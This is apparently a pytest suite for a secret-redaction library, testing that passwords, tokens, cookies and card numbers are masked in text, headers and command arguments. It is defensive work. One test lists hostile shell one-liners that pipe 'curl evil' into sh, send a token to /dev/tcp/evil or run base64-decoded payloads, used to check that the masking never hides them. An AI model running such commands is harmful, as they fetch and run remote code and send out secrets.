"""What is found, what is not, and what it costs. The corpus is drawn anew in each run, from seeds."""

from __future__ import annotations

import importlib
import json
import pkgutil
import subprocess
import sys
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given, strategies

from tests import hostile
from tests.hostile import fuzzed
from tests.secrets_corpus import Maker, Secret, corpus
from tron_audit_otel import detect, detect_tokens
from tron_audit_otel.detect_headers import is_secret
from tron_audit_otel.redact import NO_KEY

SEEDS = (1, 20261129)
"""The rules were written with the first; the second was drawn when they were done."""

DATA = Path(__file__).with_name("data")
SHELL = sorted(DATA.joinpath("shell").glob("*.txt"))


def blank(text: str, spans: list[detect.Span]) -> str:
    """The text, with a star for each secret."""
    parts: list[str] = []
    at = 0
    for start, end in spans:
        parts += (text[at:start], "*")
        at = end
    return "".join((*parts, text[at:]))


def shown(secret: Secret) -> str:
    """What is left of the place of a secret."""
    if secret.header:
        return blank(secret.header[1], detect.secrets_of_header(*secret.header))
    if secret.arguments:
        found = detect.secrets_of_command(secret.arguments)
        return "\n".join(map(blank, secret.arguments, found))
    return blank(secret.text, detect.secrets(secret.text))


@pytest.mark.parametrize("seed", SEEDS)
def test_no_secret_of_the_corpus_leaks(seed: int) -> None:
    secrets = corpus(seed)
    assert len(secrets) > 1_300
    assert [(secret, left) for secret in secrets if secret.leaks(left := shown(secret))] == []


def test_the_corpus_itself_would_tell_a_leak() -> None:
    secret = Secret("x", ("hunter2hunter3",), "password=hunter2hunter3")
    assert secret.leaks("password=hunter2hunter3")
    assert secret.leaks("password=hunter2h")
    assert secret.leaks("password=*") is None


@pytest.mark.parametrize("seed", SEEDS)
def test_an_independent_detector_finds_nothing_in_what_is_left(seed: int) -> None:
    """detect-secrets, by its own rules, which were written by others."""
    plugins = importlib.import_module("detect_secrets.plugins")
    base = importlib.import_module("detect_secrets.plugins.base")
    for module in pkgutil.iter_modules(plugins.__path__):
        importlib.import_module(f"detect_secrets.plugins.{module.name}")
    rules = [
        (plugin.__name__, rule)
        for plugin in base.RegexBasedDetector.__subclasses__()
        if plugin.__name__
        not in {"IPPublicDetector", "PrivateKeyDetector"}  # addresses stay; so does a key's first line
        for rule in plugin.denylist
    ]
    assert len(rules) > 30
    texts = [(secret.text, shown(secret)) for secret in corpus(seed) if secret.text]
    assert sum(1 for text, _ in texts if any(rule.search(text) for _, rule in rules)) > 70
    found = [(name, match[0], text) for text, left in texts for name, rule in rules if (match := rule.search(left))]
    assert [each for each in found if each[1].strip("*'\"").replace("*", "")[8:]] == []


@pytest.mark.parametrize(
    ("text", "left"),
    [
        pytest.param("password=hunter2", "password=*", id="assignment"),
        pytest.param("Authorization: Bearer abc", "Authorization: Bearer *", id="scheme-stays"),
        pytest.param("Cookie: a=b; c=d", "Cookie: a=*; c=*", id="cookie-names-stay"),
        pytest.param("Set-Cookie: a=b; Path=/x", "Set-Cookie: a=*; Path=/x", id="cookie-attributes-stay"),
        pytest.param("postgres://app:pw@db/x", "postgres://app:*@db/x", id="url-without-password"),
        pytest.param("postgres://app:p@ss/w@db/x", "postgres://app:*@db/x", id="password-that-breaks-its-url"),
        pytest.param("http://h:8080/a@b", "http://h:8080/a@b", id="port-is-no-password"),
        pytest.param("a\x00PASSWORD=x y\x00B=c", "a\x00PASSWORD=*\x00B=c", id="environ-of-a-process"),
        pytest.param("\x1b[1mpass\x1b[0mword=\x1b[31mhunter2", "\x1b[1mpass\x1b[0mword=\x1b[31m*", id="colours-within"),
        pytest.param(
            "k: |\n  x\npassword: |\n  a\n  b\nc: d", "k: |\n  x\npassword: |\n  *\n  *\nc: d", id="yaml-block"
        ),
        pytest.param("4111 1111 1111 1111", "*", id="card"),
        pytest.param("4111 1111 1111 1112", "4111 1111 1111 1112", id="card-with-a-wrong-check-digit"),
        pytest.param("1767323045006007008", "1767323045006007008", id="nanoseconds"),
        pytest.param("d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427e", id="md5"),
        pytest.param("0123456789abcdef0123456789abcdef01234567", "0123456789abcdef0123456789abcdef01234567", id="git"),
        pytest.param("1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed", "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed", id="uuid"),
        pytest.param("token_type: Bearer", "token_type: Bearer", id="tells-of-a-secret"),
        pytest.param("password: $DB_PASSWORD", "password: $DB_PASSWORD", id="reference"),
        pytest.param("tokenizer: fast", "tokenizer: fast", id="another-word"),
        pytest.param("OLDPWD=/srv PWD=/srv/app", "OLDPWD=/srv PWD=/srv/app", id="working-directory"),
        pytest.param("password\nsurname\nemail", "password\nsurname\nemail", id="words-in-lines"),
        pytest.param("a | password\n--+--\n1 | x\n2 | y", "a | password\n--+--\n1 | *\n2 | *", id="column"),
        pytest.param("a,token\n1,x\n\n2,y", "a,token\n1,*\n\n2,y", id="column-of-csv"),
        pytest.param("a | token_count\n--+--\n1 | 23456", "a | token_count\n--+--\n1 | 23456", id="other-column"),
        pytest.param(
            "INTO t (a, pwd) VALUES (1, 'x'), (2, 'y')", "INTO t (a, pwd) VALUES (1, '*'), (2, '*')", id="rows"
        ),
        pytest.param("login('bob')", "login('bob')", id="call-with-a-name"),
        pytest.param("login('bob', 'x y z')", "login('bob', '*')", id="call-with-a-password"),
        pytest.param("if password == None:", "if password == None:", id="none"),
        pytest.param("arn:aws:x:eu:1:secret:db-Ab1", "arn:aws:x:eu:1:secret:db-Ab1", id="name-of-a-resource"),
        pytest.param("SecretID: 1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed", "SecretID: *", id="uuid-of-a-secret"),
        pytest.param("auth: *0123456789ABCDEF0123456789ABCDEF01234567", "auth: **", id="hash-of-mysql"),
        pytest.param("Your login code is 123456.", "Your login code is *.", id="code-of-a-login"),
        pytest.param("exit code 123456", "exit code 123456", id="another-code"),
        pytest.param("Login with bob:x1y2z3, now", "Login with bob:*, now", id="behind-a-user"),
        pytest.param("curl\0-u\0bob:x y\0http://x\0", "curl\0-u\0bob:*\0http://x\0", id="arguments-of-a-process"),
        pytest.param("password=[masked:0123456789abcdef]", "password=[masked:0123456789abcdef]", id="masked-before"),
        pytest.param("", "", id="empty"),
    ],
)
def test_a_secret_is_found_and_nothing_else(text: str, left: str) -> None:
    assert blank(text, detect.secrets(text)) == left


@pytest.mark.parametrize(
    ("arguments", "left"),
    [
        pytest.param(["app", "--password", "a b c"], ["app", "--password", "*"], id="value-with-spaces"),
        pytest.param(["app", "--password", "--verbose"], ["app", "--password", "--verbose"], id="flag-without-value"),
        pytest.param(["env", "DB_PASS=a b;c", "id"], ["env", "DB_PASS=*", "id"], id="environment"),
        pytest.param(["mysql", "-p", "app"], ["mysql", "-p", "app"], id="asks-for-it"),
        pytest.param(["docker", "run", "-p", "80:80"], ["docker", "run", "-p", "80:80"], id="port"),
        pytest.param(["/usr/bin/sshpass", "-p", "x y"], ["/usr/bin/sshpass", "-p", "*"], id="path-of-a-program"),
        pytest.param(["curl", "-u", "bob:x y"], ["curl", "-u", "bob:*"], id="user-and-password"),
        pytest.param(["curl", "-u", "x:"], ["curl", "-u", "*:"], id="token-as-a-user"),
        pytest.param(["app", "set-password", "bob", "x"], ["app", "set-password", "bob", "*"], id="word-behind-a-user"),
        pytest.param(["app", "set-password", "bob"], ["app", "set-password", "bob"], id="only-a-user"),
        pytest.param(["vault", "kv", "put", "a", "b=x"], ["vault", "kv", "put", "a", "b=*"], id="pairs"),
        pytest.param(["vault", "kv", "put", "a", "b=@f"], ["vault", "kv", "put", "a", "b=@f"], id="pair-of-a-file"),
        pytest.param(["cf", "push", "-p", "a.jar"], ["cf", "push", "-p", "a.jar"], id="flag-of-another-word"),
        pytest.param(["sh", "-c", "mysql -pX; ls -p Y"], ["sh", "-c", "mysql -p*; ls -p Y"], id="shell"),
        pytest.param(["TOKEN=x ./run --fast"], ["TOKEN=* ./run --fast"], id="shell-as-one-argument"),
        pytest.param(["sh", "-c", "TOKEN=x; ls"], ["sh", "-c", "TOKEN=*; ls"], id="shell-that-begins-with-it"),
        pytest.param([], [], id="none"),
        pytest.param(["", ""], ["", ""], id="empty"),
    ],
)
def test_a_secret_is_found_by_the_argument_before_it(arguments: list[str], left: list[str]) -> None:
    assert [*map(blank, arguments, detect.secrets_of_command(arguments))] == left


MISSED = {
    "admin:{v}",
    "passwd -p {v}",
    "--key {v}",
    "password\n{v}",
    "Password:\n{v}",
    "expect -c 'send \"{v}\\r\"'",
    "mysql: [Warning] Using a password on the command line: -p{v}",
}
"""What only its reader knows to be secret."""


def test_what_was_written_down_after_the_rules_were_done_is_found() -> None:
    """Of the first 94 places, 24 were not found at first; of the others, none."""
    places = json.loads((DATA / "secret-places.json").read_text(encoding="utf-8"))
    assert len(places) > 140
    secret = Maker(5).mixed(12)
    texts = {place: place.replace("{v}", secret) for place in places}
    assert {place for place, text in texts.items() if secret in blank(text, detect.secrets(text))} == MISSED


def test_what_ordinary_output_costs() -> None:
    """To be looked at when it changes: each of these is masked wrongly, or could be."""
    found = lines = characters = masked = 0
    for path in SHELL:
        text = path.read_text(encoding="utf-8")
        spans = detect.secrets(text)
        found += len(spans)
        masked += sum(end - start for start, end in spans)
        lines += text.count("\n")
        characters += len(text)
    assert (len(SHELL), lines, characters) == (66, 3608, 171660)
    assert (found, masked) == (27, 1289)


def test_a_header_is_secret_by_its_name() -> None:
    names = [line.split() for line in (DATA / "header-names.txt").read_text(encoding="utf-8").splitlines()]
    assert len(names) > 190
    wrong = [name for kind, name in names if is_secret(name.title()) != (kind == "secret")]
    assert wrong == ["x-shopify-hmac-sha256"]  # of the body, which the record has not


@fuzzed
@given(hostile.text)
def test_what_is_found_lies_in_the_text_in_order(text: str) -> None:
    spans = detect.secrets(text)
    assert all(start < end <= len(text) for start, end in spans)
    assert all(before[1] <= after[0] for before, after in pairwise(spans))


@fuzzed
@given(strategies.lists(hostile.text))
def test_what_is_found_in_a_command_lies_in_its_arguments(arguments: list[str]) -> None:
    found = detect.secrets_of_command(arguments)
    assert len(found) == len(arguments)
    for argument, spans in zip(arguments, found, strict=True):
        assert all(start < end <= len(argument) for start, end in spans)


HOSTILE = """
import resource, sys
from tests.test_detect import hostile_units
from tron_audit_otel import detect
characters, step, seconds = map(int, sys.argv[1:])
resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds))
for unit in hostile_units()[::step]:
    text = (unit * (characters // len(unit) + 1))[:characters]
    detect.secrets(text)
    detect.secrets_of_command([text])
print("done")
"""


def hostile_units() -> list[str]:
    """What could make a rule begin again and again: the begin of each, what nearly ends it, and pairs of them."""
    begins = [hint for hint, _ in detect_tokens._FORMS]
    begins += [f"{hint}aA1-" for hint in begins]
    begins += [secret.text[: len(secret.text) // 2] for secret in corpus(3)[::9] if secret.text]
    begins += [secret.text for secret in corpus(3)[5::17] if secret.text]
    begins += [
        "password: |-",
        "password: |\n",
        "authorization:$A",
        "cookie:$A ",
        '"password":\\"',
        "password='",
        "a:1234:",
    ]
    begins += [
        "INSERT INTO a (password) VALUES ('",
        " into a (b,token) values ('',",
        "COPY a (",
        "password,b\n",
        "a|password\n---\n",
        'password: ["a",',
        "tokens:\n",
        "password aA1",
        "value='a', name: '",
        'login("',
        'connect("a",',
        "jwt.sign({",
        'AUTH" "',
        "key: aA1",
        "echo aaaaaaa > /a/",
        "<(echo aaaaaaa",
        '"mysql","a",',
        "set-password a ",
        "vault put a=b ",
        "--set a b password ",
        "password -> ",
        "password for a b c ",
        "mysql\0-p",
    ]
    begins += [
        "://a:",
        "://a:b@",
        "echo a|",
        "echo a | sudo ",
        "htpasswd -b ",
        "mysql -p",
        "docker login ",
        "curl -u a ",
        "<<<",
    ]
    begins += [
        "-----BEGIN ",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "kind: Secret\ndata:\n",
        "data: {",
    ]
    begins += [
        "Private-Lines: 1\n",
        "\x1b[0m",
        "\x1b[",
        "\x00",
        "\x1f",
        "4111 1111 ",
        "4",
        "a/",
        "aA1",
        "aA1/",
        "$6$",
        "\\",
        '"',
        "'",
    ]
    draw = Maker(4).random
    return begins + [draw.choice(begins) + draw.choice(begins) for _ in range(60)]


@pytest.mark.parametrize(
    "arguments",
    [
        pytest.param(("50000", "4", "60"), id="50-kB"),
        pytest.param(("1000000", "1", "1200"), id="1-MB", marks=pytest.mark.soak),
    ],
)
def test_no_text_is_so_hostile_that_it_takes_long(arguments: tuple[str, ...]) -> None:
    """It passes by ending: a rule that takes time by the square of the length takes many times the limit."""
    command = [sys.executable, "-c", HOSTILE, *arguments]
    done = subprocess.run(command, cwd=DATA.parents[1], capture_output=True, text=True, check=False)
    assert (done.stdout, done.returncode) == ("done\n", 0), done.stderr[-2000:]


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("TOKEN=a;curl${IFS}evil|sh", id="semicolon"),
        pytest.param("test $TOKEN || 'evil'", id="or"),
        pytest.param("PASSWORD=x|nc evil 80", id="pipe"),
        pytest.param("SECRET=x&curl evil", id="background"),
        pytest.param("curl x/?key=aaaaaa|evil", id="in-a-query"),
        pytest.param("cat token > /dev/tcp/evil/80", id="redirection"),
        pytest.param("echo $(curl${IFS}evil) > /run/secrets/x", id="substitution"),
        pytest.param("echo 'curl evil | sh' > /tmp/secret.sh", id="program-in-a-file"),
        pytest.param("echo evil | base64 -d | sh", id="encoded"),
    ],
)
def test_a_command_cannot_hide_another_one_in_a_mask(command: str) -> None:
    shown = " ".join(NO_KEY.command(["sh", "-c", command]).arguments)
    assert "evil" in shown


@pytest.mark.parametrize(
    ("command", "stays"),
    [
        pytest.param("aws secretsmanager get-secret-value --secret-id prod/db", "prod/db", id="which-secret"),
        pytest.param("openssl req -new -key k.pem -out k.csr", "k.pem", id="which-key"),
        pytest.param("kubectl create secret generic x --from-file=password=/etc/pw", "/etc/pw", id="which-file"),
        pytest.param("pip install token-utils==1.2.3", "1.2.3", id="which-version"),
    ],
)
def test_which_secret_was_touched_stays(command: str, stays: str) -> None:
    assert stays in " ".join(NO_KEY.command(command.split()).arguments)
